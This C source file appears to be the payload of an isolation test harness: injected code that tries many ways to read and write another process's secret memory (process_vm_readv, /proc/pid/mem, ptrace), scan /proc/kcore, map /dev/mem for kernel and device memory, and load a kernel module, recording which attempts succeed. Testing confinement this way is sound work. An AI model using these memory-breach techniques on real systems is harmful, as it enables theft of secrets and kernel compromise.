/* SPDX-License-Identifier: BSD-2-Clause */
/* The injected code goes for memory: its own process's, others', the kernel's, devices'. */
#include "payload.h"
#include "payload_tools.h"
#include "sys.h"

#include <linux/elf.h>
#include <linux/fcntl.h>
#include <linux/mman.h>
#include <linux/ptrace.h>

/* Where Linux for arm64 has its own image, without KASLR; where QEMU's machine `virt` has it. */
#define KERNEL_IMAGE 0xffff800008000000ul
#define KERNEL_PHYSICAL 0x40200000ul
/* The first words of linux_banner, and of /proc/version. */
#define BANNER 0x65762078756e694cul /* "Linux ve" */
/* Where the memory of the machine is. */
#define MEMORY_START 0x40000000ul
#define MEMORY_END 0xc0000000ul

struct piece {
    unsigned long address, bytes;
};

static long other_vm(unsigned long pid, struct piece own, unsigned long address, int write)
{
    struct piece other = { address, own.bytes };

    return write != 0 ? SYS6(process_vm_writev, pid, &own, 1, &other, 1, 0) :
                        SYS6(process_vm_readv, pid, &own, 1, &other, 1, 0);
}

static long other_proc(unsigned long pid, struct piece own, unsigned long address, int write)
{
    char path[40];
    long file, done;

    proc_mem(path, pid);
    file = SYS3(openat, AT_FDCWD, path, O_RDWR);
    if (file < 0) {
        return file;
    }
    done = write != 0 ? SYS4(pwrite64, file, own.address, own.bytes, address) :
                        SYS4(pread64, file, own.address, own.bytes, address);
    (void)SYS1(close, file);
    return done;
}

static long other_trace(unsigned long pid, struct piece own, unsigned long address, int write)
{
    long done = SYS4(ptrace, PTRACE_ATTACH, pid, 0, 0);

    if (done != 0) {
        return done;
    }
    (void)SYS4(wait4, pid, 0, 0x40000000 /* __WALL */, 0);
    for (unsigned long i = 0; i < own.bytes && done == 0; i += 8) {
        done = write != 0 ?
                   SYS4(ptrace, PTRACE_POKEDATA, pid, address + i,
                        *(unsigned long *)(own.address + i)) :
                   SYS4(ptrace, PTRACE_PEEKDATA, pid, address + i, own.address + i);
    }
    (void)SYS4(ptrace, PTRACE_DETACH, pid, 0, 0);
    return done == 0 ? (long)own.bytes : done;
}

/* Reads or writes another process's memory; 1 if all of it was. */
static int other(enum way way, unsigned long pid, struct piece own, unsigned long address,
                 int write)
{
    long done = -1;

    if (pid == 0) {
        return 0;
    }
    if (way == WAY_VM) {
        done = other_vm(pid, own, address, write);
    } else if (way == WAY_PROC) {
        done = other_proc(pid, own, address, write);
    } else if (way == WAY_TRACE) {
        done = other_trace(pid, own, address, write);
    }
    return done == (long)own.bytes;
}

/* As on Bulkhead: whether the secret is in this address space, a load will show. */
static void read_secret(enum way way)
{
    unsigned long words[SECRET_WORDS];
    struct piece own = { (unsigned long)words, sizeof(words) };

    if (found()->secret_way != 0) {
        return;
    }
    if (way == WAY_DIRECT) {
        for (int i = 0; i < SECRET_WORDS; i++) {
            words[i] = ((volatile unsigned long *)VAULT)[i];
        }
    } else if (!other(way, found()->pids[SAFE_SERVER], own, VAULT, 0)) {
        return;
    }
    for (int i = 0; i < SECRET_WORDS; i++) {
        found()->secret[i] = words[i];
    }
    found()->secret_way = 1 + (uint64_t)way;
}

static void write_secret(enum way way)
{
    unsigned long words[SECRET_WORDS] = { 1, 2, 3, 4 };
    struct piece own = { (unsigned long)words, sizeof(words) };

    if (way == WAY_DIRECT) {
        for (int i = 0; i < SECRET_WORDS; i++) {
            ((volatile unsigned long *)VAULT)[i] = words[i];
        }
    } else {
        (void)other(way, found()->pids[SAFE_SERVER], own, VAULT, 1);
    }
}

/* The word that only this component has. */
static void cookie(enum component c, enum way way, int write)
{
    unsigned long word = write != 0 ? ~found()->cookies[c] : 0;
    struct piece own = { (unsigned long)&word, sizeof(word) };

    if (way == WAY_DIRECT) {
        if (c != SAFE_SERVER || found()->one_process == 0) {
            return; /* what is there is the service's own */
        }
        if (write != 0) {
            *(volatile unsigned long *)COOKIE = word;
        }
        word = *(volatile unsigned long *)COOKIE;
    } else if (!other(way, found()->pids[c], own, COOKIE, write)) {
        return;
    }
    if (write == 0 && found()->cookie_ways[c] == 0) {
        found()->cookies[c] = word;
        found()->cookie_ways[c] = 1 + (uint64_t)way;
    }
}

/* Copies what is at `from`; the judge will know it. */
static void note_kernel(const volatile char *from, unsigned long address, uint64_t way)
{
    for (unsigned long i = 0; i + 1 < sizeof(found()->kernel_text); i++) {
        found()->kernel_text[i] = from[i];
    }
    found()->kernel_address = address;
    found()->kernel_way = way;
}

/* Looks for the kernel's name in a part of the memory that the ELF file /proc/kcore shows. */
static void search_segment(long file, const struct elf64_phdr *segment)
{
    const unsigned long most = 0x4000000, rest = sizeof(found()->kernel_text);
    unsigned long words[PAGE / 8];

    for (unsigned long at = 0; at < segment->p_memsz && at < most; at += PAGE - rest) {
        if (SYS4(pread64, file, words, PAGE, segment->p_offset + at) != PAGE) {
            continue;
        }
        for (unsigned long i = 0; i < (PAGE - rest) / 8; i++) {
            if (words[i] == BANNER) {
                note_kernel((const char *)&words[i], segment->p_vaddr + at + i * 8, 2);
                return;
            }
        }
    }
}

static int is_memory(const struct elf64_phdr *segment)
{
    return segment->p_type == PT_LOAD && segment->p_paddr >= MEMORY_START &&
           segment->p_paddr < MEMORY_END;
}

static void read_kcore(void)
{
    struct elf64_hdr header;
    struct elf64_phdr segment;
    long file = SYS3(openat, AT_FDCWD, "/proc/kcore", O_RDONLY);

    if (file < 0) {
        return;
    }
    if (SYS4(pread64, file, &header, sizeof(header), 0) == sizeof(header)) {
        for (unsigned long i = 0; i < header.e_phnum && found()->kernel_way == 0; i++) {
            if (SYS4(pread64, file, &segment, sizeof(segment),
                     header.e_phoff + i * sizeof(segment)) == sizeof(segment) &&
                is_memory(&segment)) {
                search_segment(file, &segment);
            }
        }
    }
    (void)SYS1(close, file);
}

/* A page of physical memory, or 0. */
static unsigned long map_physical(unsigned long address, long rights)
{
    long file = SYS3(openat, AT_FDCWD, "/dev/mem", O_RDWR | O_SYNC);
    long page = file < 0 ? file : SYS6(mmap, 0, PAGE, rights, MAP_SHARED, file, address);

    if (file >= 0) {
        (void)SYS1(close, file);
    }
    return page < 0 ? 0 : (unsigned long)page;
}

static void read_kernel(unsigned long item)
{
    unsigned long page;

    if (found()->kernel_way != 0) {
        return;
    }
    if (item == 0) {
        note_kernel((const volatile char *)KERNEL_IMAGE, KERNEL_IMAGE, 1);
    } else if (item == 1) {
        read_kcore();
    } else if ((page = map_physical(KERNEL_PHYSICAL, PROT_READ)) != 0) {
        note_kernel((const volatile char *)page, KERNEL_PHYSICAL, 3);
    }
}

/* The last way puts foreign code into the kernel: a module. */
static void write_kernel(unsigned long item)
{
    volatile unsigned int *word = (volatile unsigned int *)KERNEL_IMAGE;
    unsigned long page;

    if (item == 0) {
        *word = *word;
        found()->kernel_write_way = 1;
    } else if (item == 1 && (page = map_physical(KERNEL_PHYSICAL, PROT_READ | PROT_WRITE)) != 0) {
        word = (volatile unsigned int *)page;
        *word = *word;
        found()->kernel_write_way = 2;
    } else if (item == 2) {
        long file = SYS3(openat, AT_FDCWD, "/lib/modules/dummy.ko", O_RDONLY);

        if (SYS3(finit_module, file, "", 0) == 0) {
            found()->kernel_write_way = 3;
        }
    }
}

/* First as an address of this process, then by /dev/mem. */
static void device(unsigned long item, int write)
{
    unsigned long address = device_register(item == 0 ? 0 : item - 1);
    unsigned long page = address & ~0xffful;
    volatile unsigned int *word;

    if (item > 0) {
        page = map_physical(page, PROT_READ | PROT_WRITE);
    }
    if (page == 0 || (write == 0 && found()->device_way != 0)) {
        return;
    }
    word = (volatile unsigned int *)(page + (address & 0xfff));
    if (write != 0) {
        *word = DEVICE_MARK;
    } else {
        found()->device_word = *word;
        found()->device_way = 1 + item;
    }
}

static void write_program(unsigned long item)
{
    unsigned long address = found()->program;

    if (item == 0 ||
        SYS3(mprotect, address & ~0xffful, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC) == 0) {
        *(volatile unsigned int *)address = PROGRAM_MARK;
    }
}

static void read_post(void)
{
    uint64_t digest = 0xcbf29ce484222325ull;

    for (unsigned long i = 0; i < 64; i++) {
        digest = (digest ^ ((volatile uint8_t *)found()->client_post)[i]) * 0x100000001b3ull;
    }
    found()->post_digest = digest;
    found()->post_way = 1;
}

/* Where the service has it, first as it is, then made writable; then in the client. */
static void write_post(unsigned long item)
{
    unsigned long word = 0x7073656e7370ul;
    struct piece own = { (unsigned long)&word, sizeof(word) };
    unsigned long page = found()->client_post;

    if (item >= 2) {
        (void)other(item == 2 ? WAY_VM : WAY_PROC, found()->pids[CLIENT], own,
                    found()->post_of_client, 1);
    } else if (item == 0 || SYS3(mprotect, page, PAGE, PROT_READ | PROT_WRITE) == 0) {
        *(volatile unsigned long *)page = word;
    }
}

/* The client hands its post over when the service has just started; the attacker came too early. */
static void want_client(void)
{
    found()->patient = 1;
    found()->armed = 0;
    (void)SYS1(exit_group, 0);
}

void memory_item(unsigned long step, unsigned long item)
{
    if ((step == STEP_READ_POST || step == STEP_WRITE_POST) && found()->client_post == 0) {
        want_client();
    }
    found()->patient = 0;
    switch (step) {
    case STEP_READ_SECRET:
        read_secret((enum way)item);
        break;
    case STEP_WRITE_SECRET:
        write_secret((enum way)item);
        break;
    case STEP_READ_KERNEL:
        read_kernel(item);
        break;
    case STEP_WRITE_KERNEL:
        write_kernel(item);
        break;
    case STEP_READ_DEVICE:
        device(item, 0);
        break;
    case STEP_WRITE_DEVICE:
        device(item, 1);
        break;
    case STEP_READ_POST:
        read_post();
        break;
    case STEP_WRITE_POST:
        write_post(item);
        break;
    case STEP_WRITE_PROGRAM:
        write_program(item);
        break;
    case STEP_READ_MEMORY:
    case STEP_WRITE_MEMORY:
        cookie((enum component)(item / WAYS), (enum way)(item % WAYS), step == STEP_WRITE_MEMORY);
        break;
    }
}
